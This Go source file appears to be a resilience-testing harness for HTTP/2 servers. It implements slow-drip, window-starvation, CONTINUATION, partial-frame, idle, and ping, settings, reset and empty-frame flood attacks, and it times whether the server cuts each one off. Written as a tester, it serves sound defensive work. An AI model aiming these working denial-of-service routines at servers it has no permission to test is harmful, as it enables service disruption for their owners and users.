package main

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// kinds2 are attacks over HTTP/2.
func kinds2(s *setting) []*kind {
	made := func(name string, within time.Duration, streams int, plan h2Plan) *kind {
		return &kind{name: "2/" + name, within: within + s.slack, slack: s.slack, streams: streams, run: plan.run}
	}
	flood := func(name string, frame func(*h2Attack, uint32) error) *kind {
		k := made(name, 2*s.grace, 0, h2Plan{drip: frame})
		k.few = true
		return k
	}
	contents := h2Plan{
		begin: func(a *h2Attack, id uint32) error { return a.head(id, "POST", "/attack", false, true) },
		every: time.Second, each: func(a *h2Attack, id uint32) error { return a.f.WriteData(id, false, []byte("content!")) },
	}
	windows := func(path string) h2Plan {
		return h2Plan{
			begin: func(a *h2Attack, id uint32) error { return a.head(id, "GET", path, true, true) },
			every: time.Second, each: func(a *h2Attack, id uint32) error { return a.f.WriteWindowUpdate(id, 1) },
		}
	}
	return []*kind{
		made("contents", 2*s.grace, 0, contents),
		made("streams", 2*s.grace, 100, contents),
		made("readers", 2*s.grace, 0, windows("/mine/400000")),
		made("windows", 2*s.grace, 100, windows("/films/1")),
		made("deaf", 2*s.grace, 0, h2Plan{
			window: 1 << 30, deaf: true, every: time.Second,
			begin: func(a *h2Attack, id uint32) error { return a.head(id, "GET", "/films/1", true, true) },
		}),
		made("heads", s.header, 0, h2Plan{
			begin: func(a *h2Attack, id uint32) error { return a.head(id, "GET", "/attack", true, false) },
			every: time.Second, each: func(a *h2Attack, id uint32) error { return a.f.WriteContinuation(id, false, []byte{0}) },
		}),
		made("frames", 2*s.grace, 0, h2Plan{
			begin: func(a *h2Attack, id uint32) error {
				if err := a.head(id, "POST", "/attack", false, true); err != nil {
					return err
				}
				_, err := a.c.Write([]byte{0, 0x40, 0, byte(http2.FrameData), 0, 0, 0, 0, byte(id)}) // of 16 KiB
				return err
			},
			every: time.Second, each: func(a *h2Attack, id uint32) error { _, err := a.c.Write([]byte("x")); return err },
		}),
		made("silent", s.idle, 0, h2Plan{every: time.Second}),
		made("hellos", s.header, 0, h2Plan{mute: true, every: time.Second}),
		flood("pings", func(a *h2Attack, _ uint32) error { return a.f.WritePing(false, [8]byte{}) }),
		flood("settings", func(a *h2Attack, _ uint32) error { return a.f.WriteSettings() }),
		flood("resets", func(a *h2Attack, n uint32) error {
			if err := a.head(2*n+1, "GET", "/mine/1000", true, true); err != nil {
				return err
			}
			return a.f.WriteRSTStream(2*n+1, http2.ErrCodeCancel)
		}),
		flood("empties", func(a *h2Attack, n uint32) error {
			if n == 0 {
				if err := a.head(1, "POST", "/attack", false, true); err != nil {
					return err
				}
			}
			return a.f.WriteData(1, false, nil)
		}),
	}
}

// h2Plan is an attack over one connection.
type h2Plan struct {
	mute   bool                               // not even the preface is sent
	window uint32                             // of streams; 0: none is open
	begin  func(a *h2Attack, id uint32) error // begins a stream; nil: there is none
	every  time.Duration                      // between two drips
	each   func(a *h2Attack, id uint32) error // drips, of a stream
	drip   func(a *h2Attack, n uint32) error  // drips, the nth time from 0 on
	deaf   bool                               // a byte is read with every drip, instead of all
}

// h2Attack is an attack under way. Its goroutines are the one that drips and the
// one that reads.
type h2Attack struct {
	k     *kind
	raw   net.Conn
	c     *tls.Conn
	f     *http2.Framer
	began time.Time
	over  chan struct{} // closed when all are cut off

	mu   sync.Mutex // guards open
	open map[uint32]bool
}

// run attacks until every stream, or the connection, is cut off.
func (p h2Plan) run(k *kind, at *target, i int) error {
	raw, err := at.dial(i, at.secure)
	if err != nil {
		return err
	}
	defer raw.Close()
	config := at.tls.Clone()
	config.NextProtos = []string{"h2"}
	a := &h2Attack{k: k, raw: raw, c: tls.Client(raw, config), over: make(chan struct{}), open: map[uint32]bool{}}
	at.turns <- struct{}{}
	raw.SetDeadline(time.Now().Add(4 * k.slack))
	err = a.c.Handshake()
	<-at.turns
	if err != nil {
		return err
	}
	a.began = time.Now()
	raw.SetDeadline(a.began.Add(k.within + k.slack))
	a.f = http2.NewFramer(a.c, a.c)
	for n := range max(1, k.streams) {
		a.open[uint32(2*n+1)] = true
	}
	k.opened.Add(int64(len(a.open)))
	if !p.deaf {
		go a.listen()
	}
	if err := p.start(a); err == nil {
		p.goOn(a)
	}
	if !p.deaf {
		<-a.over
	}
	return nil
}

func (p h2Plan) start(a *h2Attack) error {
	if p.mute {
		return nil
	}
	if _, err := io.WriteString(a.c, http2.ClientPreface); err != nil {
		return err
	}
	if err := a.f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: p.window}); err != nil {
		return err
	}
	if p.window > 0 {
		if err := a.f.WriteWindowUpdate(0, p.window); err != nil {
			return err
		}
	}
	return p.forEach(a, p.begin)
}

// forEach does something for every stream that is not cut off.
func (p h2Plan) forEach(a *h2Attack, do func(*h2Attack, uint32) error) error {
	if do == nil {
		return nil
	}
	for n := range max(1, a.k.streams) {
		id := uint32(2*n + 1)
		a.mu.Lock()
		open := a.open[id]
		a.mu.Unlock()
		if open {
			if err := do(a, id); err != nil {
				return err
			}
		}
	}
	return nil
}

// goOn drips until all are cut off, or nothing can be written any more.
func (p h2Plan) goOn(a *h2Attack) {
	one := make([]byte, 1)
	for n := uint32(0); time.Since(a.began) < a.k.within; n++ {
		select {
		case <-a.over:
			return
		case <-time.After(p.every):
		}
		err := p.forEach(a, p.each)
		if err == nil && p.drip != nil {
			err = p.drip(a, n)
		}
		if p.deaf {
			if _, err = a.raw.Read(one); err == nil && reset(a.raw) || err != nil {
				a.cut()
				return
			}
		}
		if err != nil {
			return // who reads hears why
		}
	}
}

// head sends a request's head, whole or without its end.
func (a *h2Attack) head(id uint32, method, path string, end, whole bool) error {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "school.example"}, {":path", path}} {
		e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	if path == "/attack" {
		e.WriteField(hpack.HeaderField{Name: "x-attacker", Value: "yes"})
	}
	return a.f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: end, EndHeaders: whole})
}

// listen notes what is cut off until the connection is, or its time is over.
func (a *h2Attack) listen() {
	defer func() {
		select {
		case <-a.over:
		default:
			close(a.over)
		}
	}()
	for {
		f, err := a.f.ReadFrame()
		if err != nil {
			if ne, ok := err.(net.Error); !ok || !ne.Timeout() {
				a.cut()
			}
			return
		}
		switch f := f.(type) {
		case *http2.RSTStreamFrame:
			a.cutStream(f.StreamID)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				a.cutStream(f.StreamID)
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				a.cutStream(f.StreamID)
			}
		}
		a.mu.Lock()
		left := len(a.open)
		a.mu.Unlock()
		if left == 0 {
			return
		}
	}
}

// cutStream notes that a stream is over; of the floods, only the connection's end
// counts.
func (a *h2Attack) cutStream(id uint32) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.open[id] && !a.k.few {
		delete(a.open, id)
		a.k.cutOff(a.began, 1)
	}
}

// cut notes that the connection is over.
func (a *h2Attack) cut() {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.k.cutOff(a.began, len(a.open))
	clear(a.open)
}
